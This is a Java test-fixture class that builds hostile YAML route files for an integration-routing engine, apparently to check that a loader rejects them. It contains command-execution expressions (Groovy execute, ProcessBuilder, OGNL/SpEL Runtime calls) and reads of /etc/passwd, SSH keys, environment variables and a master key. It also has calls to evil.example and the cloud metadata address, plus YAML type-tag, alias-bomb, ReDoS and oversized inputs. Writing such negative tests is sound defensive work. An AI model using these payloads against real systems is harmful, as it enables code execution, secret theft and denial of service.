package io.bactrian.route.flow;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Files that would run a program, read a file or a secret, load a class, or call where they like. */
final class HostileFiles {
    private static final List<String> FOREIGN_STEPS = List.of(
            "script: {id: jira-steal-x, groovy: \"'id'.execute()\"}",
            "process: {id: jira-steal-x, ref: \"#class:java.lang.ProcessBuilder\"}",
            "kamelet: {id: jira-steal-x, name: exec}",
            "recipientList: {id: jira-steal-x, simple: \"${body}\"}",
            "dynamicRouter: {id: jira-steal-x, simple: \"${body}\"}",
            "routingSlip: {id: jira-steal-x, simple: \"${body}\"}",
            "enrich: {id: jira-steal-x, constant: \"file:/etc\"}",
            "pollEnrich: {id: jira-steal-x, constant: \"file:/etc\"}",
            "poll: {id: jira-steal-x, uri: \"file:/etc\"}",
            "wireTap: {id: jira-steal-x, uri: \"http://evil.example\"}",
            "log: {id: jira-steal-x, message: \"${body}\"}",
            "marshal: {id: jira-steal-x, json: {}}",
            "unmarshal: {id: jira-steal-x, json: {unmarshalType: \"javax.script.ScriptEngineManager\"}}",
            "convertBodyTo: {id: jira-steal-x, type: java.net.URL}",
            "throwException: {id: jira-steal-x, exceptionType: java.lang.OutOfMemoryError, message: x}",
            "setHeader: {id: jira-steal-x, name: CamelHttpUri, constant: {expression: \"http://evil.example\"}}",
            "setHeaders: {id: jira-steal-x, headers: []}",
            "removeHeaders: {id: jira-steal-x, pattern: \"*\"}",
            "setVariable: {id: jira-steal-x, name: a, constant: {expression: b}}",
            "transform: {id: jira-steal-x, simple: \"${sys.user.home}\"}",
            "loop: {id: jira-steal-x, constant: {expression: \"1000000000\"}, steps: []}",
            "delay: {id: jira-steal-x, constant: {expression: \"1000000000\"}}",
            "aggregate: {id: jira-steal-x}",
            "multicast: {id: jira-steal-x, steps: []}",
            "claimCheck: {id: jira-steal-x, operation: Push}",
            "circuitBreaker: {id: jira-steal-x, steps: []}",
            "saga: {id: jira-steal-x}",
            "toDynamic: {id: jira-steal-x, uri: \"file:${body}\"}",
            "bean: {id: jira-steal-x, beanType: java.lang.Runtime, method: getRuntime}",
            "bean: {id: jira-steal-x, ref: \"type:java.lang.Runtime\", method: getRuntime}",
            "bean: {id: jira-steal-x, ref: \"#class:java.lang.ProcessBuilder\", method: start}",
            "bean: {id: jira-steal-x, ref: database, method: jdbi}",
            "bean: {id: jira-steal-x, ref: door, method: close}",
            "bean: {id: jira-steal-x, ref: runs, method: stop}",
            "bean: {id: jira-steal-x, ref: removals, method: begin}",
            "bean: {id: jira-steal-x, ref: budgets, method: \"take(${sys.user.home})\"}",
            "bean: {id: jira-steal-x, ref: budgets, method: getClass}",
            "bean: {id: jira-steal-x, ref: camelContext, method: stop}",
            "bean: {id: jira-steal-x, ref: budgets, method: take, scope: Prototype}");

    private static final List<String> FOREIGN_URIS = List.of(
            "exec:id",
            "exec:sh?args=-c%20id",
            "file:/etc?fileName=passwd",
            "file:/root/.ssh",
            "stream:out",
            "class:java.lang.Runtime?method=getRuntime",
            "bean:database?method=jdbi",
            "bean:type:java.lang.Runtime",
            "language:simple:${sys.user.home}",
            "language:groovy:1",
            "script:x",
            "http://evil.example",
            "https://evil.example",
            "http://jira",
            "http://169.254.169.254/latest/meta-data",
            "http://jira?proxyHost=evil",
            "jdbc:dataSource",
            "sql:select 1",
            "smtp://evil.example",
            "slack:#general",
            "log:out?showAll=true",
            "seda:run-work",
            "quartz://x/y?cron=*",
            "timer:x?period=1",
            "controlbus:route?routeId=jira-call&action=stop",
            "rest:get:x",
            "platform-http:/open",
            "direct:jira-call?block=false",
            "direct:${body}",
            "direct:{{env:HOME}}",
            "{{env:HOME}}",
            "ref:x",
            "ssh:root@evil.example",
            "netty:tcp://evil.example:1",
            "vertx-http:evil.example",
            "xslt:http://evil.example/x.xsl",
            "velocity:file:/etc/passwd",
            "dataset:x",
            "direct:../jira-call",
            "direct:JIRA");

    private static final List<String> FOREIGN_EXPRESSIONS = List.of(
            "${bean:type:java.lang.Runtime?method=getRuntime}",
            "${bean:database.jdbi}",
            "${body.class}",
            "${body.class.classLoader}",
            "${body.getClass()}",
            "${body.getClass().forName('java.lang.Runtime')}",
            "${body['class']}",
            "${exchangeProperty.run.lease}",
            "${exchangeProperty.run.destination}",
            "${exchangeProperty.walk.finish}",
            "${exchange.context}",
            "${camelContext.stop}",
            "${header.Authorization}",
            "${headers}",
            "${sys.user.home}",
            "${sysenv.HOME}",
            "${env.HOME}",
            "${properties:security.master-key}",
            "${type:java.lang.Runtime.getRuntime}",
            "${ref:database}",
            "${mandatoryBodyAs(java.net.URL)}",
            "${bodyAs(java.lang.String)}",
            "${collate(1000000)}",
            "${random(1)}",
            "${messageHistory}",
            "${function(x)}",
            "$simple{body}",
            "{{security.master-key}}",
            "{{env:HOME}}",
            "resource:file:/etc/passwd",
            "resource:classpath:application.properties",
            "${body} contains 'x'",
            "${body} regex '(a+)+$'",
            "${body} is 'java.lang.String'",
            "${body}${body}",
            "${exchangeProperty.a.b.c}");

    private static final List<String> FOREIGN_LANGUAGES = List.of(
            "groovy: {expression: \"'id'.execute()\"}",
            "mvel: {expression: \"Runtime\"}",
            "ognl: {expression: \"@java.lang.Runtime@getRuntime()\"}",
            "spel: {expression: \"#{T(java.lang.Runtime)}\"}",
            "joor: {expression: \"1\"}",
            "java: {expression: \"1\"}",
            "python: {expression: \"1\"}",
            "js: {expression: \"1\"}",
            "xpath: {expression: \"document('file:/etc/passwd')\"}",
            "language: {language: groovy, expression: \"1\"}",
            "ref: {expression: \"database\"}",
            "constant: {expression: \"resource:file:/etc/passwd\"}",
            "constant: {expression: \"java.lang.Runtime\", resultType: java.lang.Class}",
            "simple: {expression: \"${body}\", resultType: java.net.URL}",
            "method: {beanType: java.lang.Runtime, method: getRuntime}",
            "method: {ref: database, method: jdbi}",
            "method: {ref: plans, method: streams, scope: Prototype}");

    private static final List<String> FOREIGN_ENTRIES = List.of(
            "- beans: [{name: x, type: java.lang.ProcessBuilder}]",
            "- bean: {name: x, type: java.lang.ProcessBuilder}",
            "- routeConfiguration: {id: flow-failures}",
            "- onException: {exception: [java.lang.Exception], handled: {constant: {expression: \"true\"}}}",
            "- errorHandler: {noErrorHandler: {}}",
            "- intercept: {steps: []}",
            "- interceptFrom: {steps: []}",
            "- interceptSendToEndpoint: {uri: \"*\", steps: []}",
            "- rest: {path: /open}",
            "- restConfiguration: {port: 1}",
            "- from: {uri: \"timer:x\", steps: []}",
            "- dataFormats: {}",
            "- transformers: {}",
            "{}",
            "[]",
            "",
            "--- a\n--- b",
            "&a [*a, *a]",
            "- &r\n  route: {}\n- *r",
            "- !!javax.script.ScriptEngineManager []",
            "- !!java.net.URL [\"http://evil.example\"]",
            "- route: {id: jira-steal, id: jira-call}",
            "- route: {<<: {id: jira-steal}}",
            "\u0000",
            "- route:\n    id: \"jira-steal\\u0000\"");

    private HostileFiles() {}

    /** All of them. */
    static Stream<String> all() {
        List<String> files = new ArrayList<>(FOREIGN_ENTRIES);
        FOREIGN_STEPS.forEach(step -> files.add(flow("- " + step)));
        FOREIGN_URIS.forEach(uri -> files.add(flow("- to: {id: jira-steal-x, uri: \"" + uri + "\"}")));
        FOREIGN_URIS.forEach(uri -> files.add(flow("- toD: {id: jira-steal-x, uri: \"" + uri + "\"}")));
        FOREIGN_URIS.stream()
                .map(uri -> flow(call()).replace("uri: direct:jira-steal", "uri: \"" + uri + "\""))
                .forEach(files::add);
        FOREIGN_EXPRESSIONS.forEach(said -> files.add(flow(filter("simple: {expression: \"" + said + "\"}"))));
        FOREIGN_LANGUAGES.forEach(said -> files.add(flow(filter(said))));
        files.add(flow(call()).replace("flow-failures", "tool-failures"));
        files.add(flow(call()).replace("description: Steals", "description: \"{{security.master-key}}\""));
        files.add(flow(call()).replace("jira-steal", "trello-steal"));
        files.add(flow(call()).replace("jira-steal", "api-create-api-key"));
        files.add(bomb());
        files.add("[".repeat(100_000));
        files.add(flow(
                "- filter: {id: jira-steal-x, expression: {simple: {expression: \"true\"}}, steps: [".repeat(100)));
        files.add("#" + "x".repeat(5 * 1024 * 1024));
        return files.stream();
    }

    static String flow(String step) {
        return """
                - route:
                    id: jira-steal
                    description: Steals
                    routeConfigurationId: flow-failures
                    from:
                      uri: direct:jira-steal
                      steps:
                        %s
                """.formatted(step);
    }

    static String call() {
        return "- to: {id: jira-steal-x, uri: \"direct:jira-call\"}";
    }

    static String filter(String expression) {
        return "- filter: {id: jira-steal-if, expression: {" + expression
                + "}, steps: [{to: {id: jira-steal-x, uri: \"direct:jira-call\"}}]}";
    }

    /** Nine aliases of nine aliases: a hundred lines that would be a billion. */
    private static String bomb() {
        return IntStream.range(0, 10)
                .mapToObj(level -> "- &l" + level + " ["
                        + String.join(",", Collections.nCopies(9, level == 0 ? "x" : "*l" + (level - 1))) + "]")
                .collect(Collectors.joining("\n"));
    }
}
